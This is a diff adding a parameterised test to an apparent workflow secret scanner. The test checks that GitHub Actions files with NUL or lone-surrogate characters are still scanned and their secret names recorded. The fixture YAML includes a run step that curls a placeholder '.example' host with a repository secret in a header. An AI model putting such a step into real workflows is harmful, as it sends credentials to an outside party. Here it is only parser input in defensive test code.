@@ -127,6 +127,42 @@ describe("a scan of an organisation", () => {
     expect(await read("site")).toMatchObject({ state: "unknown", owners: [] });
   });
 
+  test.each([
+    ["NUL", "\\0"],
+    ["half of a pair of surrogates", "\\ud83d"],
+  ])("is stored whatever the text says: %s wherever YAML lets one be written", async (_, odd) => {
+    const hostile = [
+      `name: "a${odd}"`,
+      "on: push",
+      "jobs:",
+      `  "build${odd}":`,
+      "    runs-on: ubuntu-latest",
+      "    steps:",
+      `      - name: "step${odd}"`,
+      `        run: "gh pr create --title a${odd} && curl https://x${odd}.example -H $T"`,
+      "        env:",
+      "          GH_TOKEN: ${{ secrets.ROBOT_PAT }}",
+      "          T: ${{ secrets.SOME_KEY }}",
+      `          "E${odd}": "\${{ secrets['ODD${odd}'] }}"`,
+      `      - uses: "acme/tool${odd}/x${odd}@v${odd}"`,
+      "        with:",
+      `          "token${odd}": \${{ secrets.NPM_TOKEN }}`,
+      `      - uses: "actions/checkout@v${odd}"`,
+      "        with:",
+      `          repository: "acme/b${odd}"`,
+      "          token: ${{ secrets.ROBOT_PAT }}",
+      `  "call${odd}":`,
+      `    uses: "acme/flows/.github/workflows/a${odd}.yml@main"`,
+      "    secrets: inherit",
+      "",
+    ];
+    write("acme__site", hostile.join("\n"));
+    await scanAll();
+    const scans = await db.database.scan.findMany({ where: { organisationId }, select: { status: true } });
+    expect(scans.map(({ status }) => status)).toEqual(["done", "done"]);
+    expect(await names()).toEqual(expect.arrayContaining(["ROBOT_PAT", "SOME_KEY"]));
+  });
+
   test("finds repositories again, and marks those that are gone", async () => {
     await begin();
     rmSync(path.join(folder, "acme__empty"), { recursive: true });
